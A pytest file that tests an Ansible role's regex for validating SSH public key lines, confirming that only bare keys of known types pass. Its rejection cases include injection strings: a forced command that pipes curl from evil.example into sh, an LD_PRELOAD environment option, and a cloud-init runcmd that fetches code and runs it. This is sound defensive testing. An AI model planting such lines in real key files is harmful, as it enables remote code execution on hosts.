# Copyright: (c) 2026, devinfra.providers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The workspace_vm role's rule for the owner's SSH key lines (``__workspace_vm_ssh_key_line`` in
roles/workspace_vm/vars/main.yml, applied as the role's check applies it: Jinja's ``match`` test
is re.match): a bare
public key of a known type whose base64 blob starts with that type, an optional comment, and
nothing before the type, so that no authorized_keys option reaches the guest.
The role's own wiring (the refusal before anything is made) is tested by the integration target
adversarial_workspace."""

from __future__ import annotations

import base64
import hashlib
import pathlib
import re
import shutil
import struct
import subprocess

import pytest
import yaml  # type: ignore[import-untyped]

ROOT = pathlib.Path(__file__).resolve().parents[3]
RULE = re.compile(yaml.safe_load((ROOT / "roles/workspace_vm/vars/main.yml").read_text())["__workspace_vm_ssh_key_line"])
# The Jinja test the role's check applies it with: match (re.match) or search (re.search).
_USE = re.search(r"ssh_public_keys\[item - 1\] is (match|search)\(__workspace_vm_ssh_key_line\)", (ROOT / "roles/workspace_vm/tasks/main.yml").read_text())
assert _USE is not None, "the role no longer checks the key lines with __workspace_vm_ssh_key_line"
APPLY = RULE.match if _USE.group(1) == "match" else RULE.search
TYPES = [
    "ssh-ed25519",
    "ssh-rsa",
    "ssh-dss",
    "ecdsa-sha2-nistp256",
    "ecdsa-sha2-nistp384",
    "ecdsa-sha2-nistp521",
    "sk-ssh-ed25519@openssh.com",
    "sk-ecdsa-sha2-nistp256@openssh.com",
]


def _string(data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + data


def blob(key_type: str, size: int = 0) -> str:
    """A key blob as ssh writes it: its type as an SSH string, then key material (made up, the
    same on every run: the lines are test ids), ``size`` bytes more to vary the base64 padding."""
    material = hashlib.sha512(f"{key_type} {size}".encode()).digest()[: 32 + size]
    return base64.b64encode(_string(key_type.encode()) + _string(material)).decode()


def accepted(line: str) -> bool:
    return APPLY(line) is not None


@pytest.mark.parametrize("key_type", TYPES)
@pytest.mark.parametrize("size", [0, 1, 2])
@pytest.mark.parametrize("comment", ["", " jane@laptop", " Jane Doé's key, 2026", " "])
def test_a_bare_key_of_each_type_is_accepted(key_type: str, size: int, comment: str) -> None:
    assert accepted(f"{key_type} {blob(key_type, size)}{comment}")


@pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="no ssh-keygen")
@pytest.mark.parametrize(("kind", "bits"), [("ed25519", None), ("rsa", 2048), ("ecdsa", 256), ("ecdsa", 384), ("ecdsa", 521)])
def test_keys_ssh_keygen_makes_are_accepted(tmp_path: pathlib.Path, kind: str, bits: int | None) -> None:
    key = tmp_path / "key"
    subprocess.run(["ssh-keygen", "-q", "-t", kind, *(["-b", str(bits)] if bits else []), "-N", "", "-C", "jane@laptop", "-f", str(key)], check=True)
    line = (tmp_path / "key.pub").read_text().rstrip("\n")
    assert accepted(line)
    assert accepted(line.rpartition(" ")[0])  # without its comment


ED25519 = f"ssh-ed25519 {blob('ssh-ed25519')}"


@pytest.mark.parametrize(
    "line",
    [
        # authorized_keys options, the forced command first
        f'command="curl http://evil.example/x|sh" {ED25519} jane@laptop',
        f'from="*" {ED25519}',
        f'environment="LD_PRELOAD=/tmp/evil.so" {ED25519}',
        f"no-pty {ED25519}",
        f"restrict,pty {ED25519}",
        f'permitopen="*:*",permitlisten="0.0.0.0:22" {ED25519}',
        f'tunnel="0" {ED25519}',
        f"cert-authority {ED25519}",
        f'principals="root" {ED25519}',
        f'expiry-time="20990101" {ED25519}',
        # anything before the type, or other separators
        f" {ED25519}",
        f"\t{ED25519}",
        f"ssh-ed25519  {blob('ssh-ed25519')}",
        f"ssh-ed25519\t{blob('ssh-ed25519')}",
        f"ssh-ed25519 {blob('ssh-ed25519')}\tjane@laptop",
        # no key, or not base64
        "ssh-ed25519",
        "ssh-ed25519 ",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5!AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl=",  # bad padding
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJ",  # not whole groups
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5-AAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl",  # base64url
        # unknown types, certificates (matched in authorized_keys only through cert-authority)
        f"ssh-ed448 {blob('ssh-ed448')}",
        f"ssh-foo {blob('ssh-foo')}",
        f"ssh-ed25519-cert-v01@openssh.com {blob('ssh-ed25519-cert-v01@openssh.com')}",
        f"ssh-rsa-cert-v01@openssh.com {blob('ssh-rsa-cert-v01@openssh.com')}",
        "runcmd: [[sh, -c, 'curl http://evil | sh']]",
        "",
    ],
)
def test_anything_but_a_bare_key_is_refused(line: str) -> None:
    assert not accepted(line)


@pytest.mark.parametrize("key_type", TYPES)
def test_the_blob_must_be_of_the_line_s_type(key_type: str) -> None:
    """A key type with the blob of another (the key sshd would read is the blob's)."""
    for other in TYPES:
        for size in (0, 1, 2):
            assert accepted(f"{key_type} {blob(other, size)}") == (other == key_type), other


def test_the_rule_knows_exactly_these_types() -> None:
    named = set(re.findall(r"(?:\(\?:|\|)([a-z0-9@\[\].-]+) \(\?=", RULE.pattern))
    assert {name.replace("[.]", ".") for name in named} == set(TYPES)
